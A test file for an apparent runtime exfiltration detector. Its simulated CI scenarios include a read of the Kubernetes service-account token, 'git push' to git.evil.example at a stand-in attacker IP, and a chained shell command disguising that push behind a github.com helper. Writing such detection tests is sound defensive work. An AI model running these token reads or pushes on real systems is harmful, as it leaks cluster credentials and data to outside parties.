/**
 * The allowlist weighs a push's own bytes (not what its process sent before it), falls back strictly when
 * the sensor reported no sends, and ignores the resolver; a stand-in joins only the process its helper's
 * event named; a registry's private endpoint on a forge port is learned, a proxy port is not.
 */
import { describe, expect, it } from 'vitest';
import type { NormalizedEvent } from '../../../src/model/normalized-event.js';
import { MiB, type Proc, run, runResolved, Scenario, TEST_DNS } from './builder.js';

const GITHUB_IP = TEST_DNS['github.com']![0]!;
const ATTACKER_IP = '203.0.113.66';
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

/** An exec replacing `p`'s image in the same pid (execve without fork). */
function execSamePid(s: Scenario, p: Proc, parent: Proc, binary: string, args: string): Proc {
  const q: Proc = {
    ...p,
    execId: s.falco ? null : `${p.execId}-re`,
    parentExecId: s.falco ? null : parent.execId,
    ppid: parent.pid,
    binary,
    args,
    parentBinary: parent.binary,
    parentArgs: parent.args,
  };
  const sx = s as unknown as { push(e: NormalizedEvent): void; base(p: Proc): object };
  sx.push({ kind: 'exec', ...sx.base(q) } as NormalizedEvent);
  return q;
}

describe('only the push’s own bytes count for the range', () => {
  it('100 MiB to an internal address earlier, then 80 MiB to github.com, then one connect back: not exempt by 10.20.0.0/16', async () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    s.readMany(sh, '/srv/db', 80, MiB);
    const py = s.exec(c, '/usr/bin/python3', '/app/sync.py', { parent: sh });
    // An internal service (unclassed): no push of its own.
    s.connect(py, '10.20.0.5', 8080).send(py, '10.20.0.5', 8080, 100 * MiB);
    s.wait(1000)
      .connect(py, GITHUB_IP, 443)
      .send(py, GITHUB_IP, 443, 80 * MiB);
    s.wait(100).connect(py, '10.20.0.5', 8080); // no byte sent during the push
    const none = (await runResolved(s.events)).alerts;
    expect(none).toHaveLength(1);
    const allowlist = [{ namespace: 'ci', destination: '10.20.0.0/16', reason: 'internal' }];
    expect((await runResolved(s.events, { allowlist })).alerts).toHaveLength(1);
  });
});

describe('a push with few or no bytes reported: the resolver does not count, and without sends every address must be in range', () => {
  it('token read, git push to git.evil.example with a TCP DNS query to kube-dns (10.96.0.10): alert despite a 10.0.0.0/8 entry', () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const sh = s.init(c);
    s.read(sh, TOKEN, 1200);
    const g = s.exec(c, '/usr/bin/git', 'push https://git.evil.example/loot.git main', { parent: sh });
    const h = s.exec(
      c,
      '/usr/lib/git-core/git-remote-https',
      'https://git.evil.example/loot.git https://git.evil.example/loot.git',
      { parent: g },
    );
    s.connect(h, '10.96.0.10', 53, { protocol: 'tcp' }).send(h, '10.96.0.10', 53, 60, { protocol: 'tcp' });
    s.connect(h, ATTACKER_IP, 443).send(h, ATTACKER_IP, 443, 40_000);
    expect(run(s.events).alerts).toHaveLength(1);
    const allowlist = [{ namespace: 'ci', destination: '10.0.0.0/8', reason: 'in-cluster' }];
    expect(run(s.events, { allowlist }).alerts).toHaveLength(1);
  });
});

describe('a stand-in joins only the process its helper named', () => {
  it('sh starts a github.com helper, then execs `git push evil` in the same pid: two pushes, the evil one not exempt by a github.com entry', () => {
    const s = new Scenario();
    const c = s.container({ namespace: 'ci' });
    const init = s.init(c);
    s.readMany(init, '/srv/db', 80, MiB);
    const sh = s.exec(
      c,
      '/bin/sh',
      '-c git-remote-https origin https://github.com/acme/app.git; exec git push https://git.evil.example/loot.git main',
      { parent: init },
    );
    const h1 = s.exec(c, '/usr/lib/git-core/git-remote-https', 'origin https://github.com/acme/app.git', {
      parent: sh,
    });
    s.connect(h1, GITHUB_IP, 443).send(h1, GITHUB_IP, 443, 2000);
    s.exit(h1).wait(500);
    const g = execSamePid(s, sh, init, '/usr/bin/git', 'push https://git.evil.example/loot.git main');
    const h2 = s.exec(
      c,
      '/usr/lib/git-core/git-remote-https',
      'https://git.evil.example/loot.git https://git.evil.example/loot.git',
      { parent: g },
    );
    s.connect(h2, ATTACKER_IP, 443).send(h2, ATTACKER_IP, 443, 80 * MiB);
    const all = run(s.events).alerts;
    expect(all.map((a) => a.push.destination)).toContain('git.evil.example');
    const allowlist = [{ namespace: 'ci', destination: 'github.com', reason: 'ci' }];
    expect(run(s.events, { allowlist }).alerts.map((a) => a.push.destination)).toEqual(['git.evil.example']);
  });
});

import { isPrivateAddress } from '../../../src/correlate/destinations.js';

describe('private address ranges', () => {
  it('IPv4-mapped private addresses are private; fcd::1 (0fcd::) and fd::1 are not fc00::/7', () => {
    expect(isPrivateAddress('::ffff:10.0.0.5')).toBe(true);
    expect(isPrivateAddress('fcd::1')).toBe(false);
    expect(isPrivateAddress('fd::1')).toBe(false);
  });
});
